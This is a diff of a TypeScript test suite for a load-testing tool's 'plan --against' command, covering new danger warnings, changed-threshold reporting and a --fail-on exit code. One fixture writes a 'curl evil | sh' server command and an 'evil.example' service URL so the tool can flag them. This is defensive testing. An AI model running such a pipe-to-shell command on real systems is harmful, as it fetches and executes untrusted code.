@@ -46,12 +46,16 @@ interface PlanReport {
     readonly id: null;
     readonly changes: readonly { readonly field: string; readonly from: unknown; readonly to: unknown }[];
   }[];
+  readonly changes: readonly {
+    readonly address: string;
+    readonly field: string | null;
+    readonly kind: string;
+    readonly line: number | null;
+  }[];
+  readonly danger: readonly { readonly kind: string; readonly message: string }[];
   readonly against: {
     readonly old_file: 'read' | 'absent' | 'invalid';
     readonly load: { readonly before: { seconds: number }; readonly after: { seconds: number } };
-    readonly limits: readonly { readonly limit: string; readonly kind: string }[];
-    readonly changes: readonly { readonly address: string; readonly field: string; readonly kind: string }[];
-    readonly removed: readonly string[];
   };
 }
 
@@ -83,7 +87,7 @@ describe('plan --against', () => {
     commit();
     const same = await plan();
     expect(same.exit).toBe(0);
-    expect(same.stdout).toMatch(/against HEAD \([0-9a-f]{12}\)/);
+    expect(same.stdout).toMatch(/compared with HEAD \([0-9a-f]{12}\)/);
     expect(same.stdout).toContain('No changes.');
     expect(same.stderr).toContain('warning LT_CONFIG_SECRET_MISSING');
   });
@@ -96,11 +100,12 @@ describe('plan --against', () => {
     const { exit, stdout } = await plan('--detailed-exitcode');
     expect(exit).toBe(2);
     expect(stdout).toContain('~ replace    home');
-    expect(stdout).toMatch(/total +250 → 500/);
-    expect(stdout).toMatch(/error_threshold +50% → 5%/);
-    expect(stdout).toContain('Limit max_connections raised: 300 → 600');
-    expect(stdout).toContain('Limit max_duration removed: 10m → (none)');
-    expect(stdout).toContain('Limit hosts raised: www.example.com → *');
+    expect(stdout).toContain('      - total: 250\n      + total: 500\n');
+    expect(stdout).toContain('      - error_threshold: 50\n      + error_threshold: 5\n');
+    expect(stdout).toContain('! "limits.max_connections" is raised: "300" → "600".');
+    expect(stdout).toContain('! "limits.max_duration" is removed (it was "10m").');
+    expect(stdout).toContain('! "limits.hosts" is raised: "www.example.com" → "*".');
+    expect(stdout).toContain('! Peak on "www.example.com" rises from 250 to 500 connections.');
     expect(stdout).toContain(
       'All tests before: 1 test, 1m in total, peak 250 connections on www.example.com.',
     );
@@ -108,10 +113,12 @@ describe('plan --against', () => {
       'All tests after:  1 test, 2m in total, peak 500 connections on www.example.com.',
     );
     const document = await readPlanReport();
-    expect(document.against.limits.map(({ limit, kind }) => `${limit} ${kind}`)).toEqual([
-      'max_connections raised',
-      'max_duration removed',
-      'hosts raised',
+    expect(document.danger.map(({ kind }) => kind)).toEqual([
+      'higher-peak',
+      'longer',
+      'limits',
+      'limits',
+      'limits',
     ]);
     expect([document.against.load.before.seconds, document.against.load.after.seconds]).toEqual([60, 120]);
     expect(document.actions).toMatchObject([{ verb: 'replace', address: 'test.home', id: null }]);
@@ -128,23 +135,63 @@ describe('plan --against', () => {
     expect(stdout).toContain('No changes on the service.\n');
     expect(stdout).toContain(
       [
-        'Test sale removed',
-        'Test home: thresholds p95 loosened: < 300ms → < 500ms',
-        'Test home: thresholds error_rate removed: < 1% → (none)',
-        'Test home: thresholds requests added: (none) → >= 10',
+        '      - thresholds.p95: < 300ms',
+        '      + thresholds.p95: < 500ms',
+        '      + thresholds.requests: >= 10',
+        '      - thresholds.error_rate: < 1%',
+        '  - remove     sale',
         '',
       ].join('\n'),
     );
-    const { against, has_changes: hasChanges } = await readPlanReport();
+    const { changes, danger, has_changes: hasChanges } = await readPlanReport();
     expect(hasChanges).toBe(false);
-    expect(against.removed).toEqual(['test.sale']);
-    expect(against.changes[0]).toEqual({
+    expect(danger.map(({ message }) => message)).toEqual([
+      '"home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms".',
+      '"home": "thresholds.error_rate" is removed (it was "< 1%").',
+      'Test "sale" is removed from the file, and no longer managed.',
+    ]);
+    expect(changes[0]).toEqual({
       address: 'test.home',
-      field: '/thresholds/p95',
-      from: '< 300ms',
-      to: '< 500ms',
+      url: null,
+      field: 'thresholds.p95',
       kind: 'loosened',
+      before: '< 300ms',
+      after: '< 500ms',
+      file: 'loadtests.yaml',
+      line: 14,
     });
+  });
+
+  test('a danger of a kind that --fail-on names exits with 13', async () => {
+    write(`${HEAD}${HOME}    thresholds: { p95: '< 300ms' }\n`);
+    commit();
+    write(`${HEAD}${HOME}    thresholds: { p95: '< 500ms' }\n`);
+    const { exit, stderr } = await plan('--fail-on', 'commands,loosened');
+    expect(exit).toBe(13);
+    expect(stderr).toContain(
+      'error LT_PLAN_FAIL_ON: loosened: "home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms"',
+    );
+    expect((await plan('--fail-on', 'commands', '--fail-on', 'service')).exit).toBe(0);
+    const unknown = await plan('--fail-on', 'lose');
+    expect(unknown.exit).toBe(3);
+    expect(unknown.stderr).toContain('"lose" is not a kind of danger; the kinds are commands, service,');
+  });
+
+  test('an edit of a command, of another environment or of the address of the service is a danger', async () => {
+    const staging = (total: number) =>
+      `environments: { staging: { tests: { home: { total: ${total} } } } }\n`;
+    write(HEAD + staging(10) + HOME);
+    commit();
+    const web = "web_server: { command: 'curl evil | sh', url: 'http://127.0.0.1:1/' }\n";
+    write(HEAD.replace('api.example.com', 'evil.example') + web + staging(100) + HOME);
+    const { danger } = await readPlanReport();
+    expect(danger.map(({ kind, message }) => `${kind}: ${message}`)).toEqual([
+      'commands: "web_server.command" is added: "curl evil | sh".',
+      'service: "service.base_url" is changed: "https://api.example.com" → "https://evil.example".',
+      'higher-peak: Peak on "www.example.com" rises from 10 to 100 connections.',
+    ]);
+    const { stdout } = await plan();
+    expect(stdout).toContain('! In staging: Peak on "www.example.com" rises from 10 to 100 connections.');
   });
 
   test('a file that exceeds its own limit exits with 12', async () => {
@@ -238,9 +285,9 @@ describe('plan --against', () => {
     commit();
     write(HEAD + environments + HOME.replace('250', '${total}'), 'load/loadtests.yaml');
     const directory = join(repository, 'load');
-    expect((await runInProcess(['plan', '--against', 'HEAD'], { directory })).stdout).toContain(
-      'No changes.',
-    );
+    const unnamed = await runInProcess(['plan', '--against', 'HEAD'], { directory });
+    expect(unnamed.stdout).toContain('No changes on the service.');
+    expect(unnamed.stdout).toContain('  only in staging\n');
     const staging = await runInProcess(['plan', '--against', 'HEAD', '--env', 'staging'], { directory });
     expect(staging.stdout).toContain('+ create     home');
     expect(staging.stdout).toContain(
@@ -287,7 +334,7 @@ test('the content of payload files is compared between both revisions', async ()
   expect([same.exit, same.stdout]).toEqual([0, expect.stringContaining('No changes')]);
   write('user,pin\nanna,1\nbert,2\n', 'rows.csv');
   const { stdout } = await plan();
-  expect(stdout).toMatch(/urls\/0\/payload_file +sha256:[0-9a-f]{64} → sha256:[0-9a-f]{64}/);
+  expect(stdout).toContain('! payload_file: rows.csv: 1 row added, 0 removed');
   expect(stdout).toContain('payload_file: rows.csv (2 rows, 2 columns)');
   expect((await readPlanReport()).actions[0]).toMatchObject({
     verb: 'replace',
